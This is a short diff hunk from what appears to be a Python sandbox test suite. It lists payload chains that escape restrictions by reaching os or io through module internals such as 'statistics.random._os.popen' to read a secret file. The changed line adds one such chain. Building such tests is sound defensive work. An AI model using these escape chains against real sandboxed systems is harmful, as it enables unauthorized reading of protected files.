@@ -65,7 +65,7 @@ CHAINS: Final = payloads(
         "import re\nresult = re.enum.sys.modules['os'].popen('cat $secret').read()",
     ),
     (Goal.FILE_READ, "statistics", "result = statistics.sys.modules['io'].open('$secret').read()"),
-    (Goal.FILE_READ, "datetime", "result = datetime.sys.modules['io'].open('$secret').read()"),
+    (Goal.FILE_READ, "os by random", "result = statistics.random._os.popen('cat $secret').read()"),
     (
         Goal.FILE_WRITTEN,
         "the C library by NumPy",
